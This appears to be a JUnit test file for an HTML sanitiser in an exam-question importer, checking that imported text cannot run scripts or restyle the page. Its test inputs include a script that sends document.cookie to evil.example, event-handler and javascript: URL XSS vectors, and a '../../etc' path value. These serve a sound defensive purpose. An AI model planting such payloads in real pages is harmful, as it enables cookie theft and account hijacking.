package kz.emtihan.bank.imports;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.api.Test;

/** 5.16: what a student sees cannot run code or be restyled by an imported file. */
class HtmlTextTest {

    private static HtmlText.Safe html(String raw) {
        return HtmlText.of(new RichText(raw, RichText.Format.HTML));
    }

    @Test
    void scriptsAreRemovedWithTheirCode() {
        String safe =
                html("<p>Before</p><script>fetch('https://evil.example/?' + document.cookie)</script><p>After</p>")
                        .html();
        assertEquals("<p>Before</p><p>After</p>", safe);
    }

    @Test
    void eventAttributesStylesAndClassesAreRemoved() {
        String safe =
                html("<p onclick=\"steal()\" style=\"color:red\" class=\"x\">Hi <b onmouseover=\"y()\">there</b></p>")
                        .html();
        assertEquals("<p>Hi <b>there</b></p>", safe);
    }

    @Test
    void iframesObjectsFormsAndLinksAreRemoved() {
        String safe = html("<iframe src=\"https://evil.example\">x</iframe><object data=\"a.swf\"></object>"
                        + "<form action=\"/steal\"><input name=\"p\"></form><a href=\"javascript:alert(1)\">link text</a>")
                .html();
        assertFalse(safe.contains("<iframe"), safe);
        assertFalse(safe.contains("<object"), safe);
        assertFalse(safe.contains("<form"), safe);
        assertFalse(safe.contains("<input"), safe);
        assertFalse(safe.contains("javascript"), safe);
        assertTrue(safe.contains("link text"), safe);
    }

    @Test
    void formattingSubSupListsTablesAndBreaksAreKept() {
        String raw = "<p><strong>H</strong><sub>2</sub>O, x<sup>2</sup>, <em>i</em>, <u>u</u><br>next</p>"
                + "<ol><li>one</li></ol><ul><li>two</li></ul>"
                + "<table><tbody><tr><th colspan=\"2\">h</th></tr><tr><td rowspan=\"1\">a</td><td>b</td></tr></tbody></table>";
        assertEquals(raw, html(raw).html());
    }

    @Test
    void entitiesStayEscapedText() {
        assertEquals(
                "<p>x &lt; 5 &amp;&amp; y &gt; 2&nbsp;− ok</p>",
                html("<p>x &lt; 5 &amp;&amp; y &gt; 2&nbsp;&minus; ok</p>").html());
    }

    @Test
    void embeddedPicturesStayAsPluginfileReferencesWithDecodedRelativeNames() {
        HtmlText.Safe safe = html("<p>See <img src=\"@@PLUGINFILE@@/images/right%20triangle.png?time=1\" alt=\"t\""
                + " width=\"240\" height=\"50%\" class=\"img-fluid\" onerror=\"x()\" title=\"x\"></p>");
        assertEquals(List.of("images/right triangle.png"), safe.media());
        assertEquals(
                "<p>See <img src=\"@@PLUGINFILE@@/images/right triangle.png\" alt=\"t\" width=\"240\"></p>",
                safe.html());
        assertEquals(List.of(), safe.external());
    }

    @Test
    void soundsAndVideosKeepTheirSourceAndControlsOnly() {
        HtmlText.Safe safe = html("<audio controls=\"true\" autoplay><source src=\"@@PLUGINFILE@@/listen.mp3\">"
                + "@@PLUGINFILE@@/listen.mp3</audio><video src=\"@@PLUGINFILE@@/v.mp4\" width=\"320\" loop></video>");
        assertEquals(
                "<audio src=\"@@PLUGINFILE@@/listen.mp3\" controls=\"\"></audio>"
                        + "<video src=\"@@PLUGINFILE@@/v.mp4\" width=\"320\" controls=\"\"></video>",
                safe.html());
        assertEquals(List.of("listen.mp3", "v.mp4"), safe.media());
    }

    @Test
    void aLinkToAnEmbeddedSoundBecomesAPlayerAndOtherLinksAreReported() {
        HtmlText.Safe safe = html("<p><a href=\"@@PLUGINFILE@@/dialog%201.mp3\">dialog</a> and"
                + " <a href=\"@@PLUGINFILE@@/notes.pdf\">the notes</a></p>");
        assertEquals(
                "<p>dialog<audio src=\"@@PLUGINFILE@@/dialog 1.mp3\" controls=\"\"></audio> and the notes</p>",
                safe.html());
        assertEquals(List.of("dialog 1.mp3"), safe.media());
        assertEquals(List.of("notes.pdf"), safe.links());
    }

    @Test
    void aLinkAroundItsOwnPictureIsNotReportedAsALostFile() {
        HtmlText.Safe safe = html("<a href=\"@@PLUGINFILE@@/big.png\"><img src=\"@@PLUGINFILE@@/big.png\"></a>");
        assertEquals("<img src=\"@@PLUGINFILE@@/big.png\">", safe.html());
        assertEquals(List.of(), safe.links());
    }

    @Test
    void externalAndDataPicturesAreRemovedAndReportedShortened() {
        String data = "data:image/png;base64," + "A".repeat(500);
        HtmlText.Safe safe = html("<p>x<img src=\"https://cdn.example/a.png\"><img src=\"" + data + "\">"
                + "<img src=\"javascript:alert(1)\"><audio src=\"//cdn.example/a.mp3\"></audio></p>");
        assertEquals("<p>x</p>", safe.html());
        assertEquals("https://cdn.example/a.png", safe.external().get(0));
        assertTrue(safe.external().get(1).length() < 100, safe.external().get(1));
        assertEquals(4, safe.external().size(), safe.external()::toString);
        assertEquals(List.of(), safe.media());
    }

    @Test
    void storedTextKeepsOnlyContentHashesNeverAnAddress() {
        String hash = "ab".repeat(32);
        String stored =
                QuestionHtml.sanitise("<p><img data-media=\"" + hash + "\" alt=\"a\" src=\"https://x.example/a.png\">"
                        + "<img src=\"@@PLUGINFILE@@/a.png\"><audio data-media=\"" + hash + "\" controls=\"\"></audio>"
                        + "<img data-media=\"AB" + hash.substring(2) + "\"><img data-media=\"../../etc\"></p>");
        assertEquals(
                "<p><img data-media=\"" + hash + "\" alt=\"a\"><audio data-media=\"" + hash
                        + "\" controls=\"\"></audio></p>",
                stored);
    }

    @Test
    void plainAndMarkdownTextIsEscapedNeverInterpreted() {
        assertEquals(
                "&lt;b&gt;bold&lt;/b&gt; &amp; x &lt; 2<br>line two",
                HtmlText.of(new RichText("<b>bold</b> & x < 2\nline two", RichText.Format.PLAIN))
                        .html());
        assertEquals(
                "**Area** &lt;script&gt;x&lt;/script&gt;",
                HtmlText.of(new RichText("**Area** <script>x</script>", RichText.Format.MARKDOWN))
                        .html());
    }

    @Test
    void moodleAutoFormatKeepsLineBreaksAndSanitises() {
        assertEquals(
                "one<br>two <b>three</b>",
                HtmlText.of(new RichText("one\ntwo <b onclick=\"x()\">three</b>", RichText.Format.MOODLE))
                        .html());
    }

    @Test
    void textWithNothingVisibleIsBlank() {
        assertTrue(html("<p>&nbsp;</p><script>alert(1)</script>").blank());
        assertFalse(html("<p><img src=\"@@PLUGINFILE@@/a.png\"></p>").blank()); // a picture is content
        assertTrue(html("<p><img src=\"https://x.example/a.png\"></p>").blank());
        assertFalse(html("<p>0</p>").blank());
    }

    @Test
    void plainTextCollapsesWhitespace() {
        assertEquals("a b c", HtmlText.plain("<p>a&nbsp; b</p>\n<p>c</p>"));
    }
}
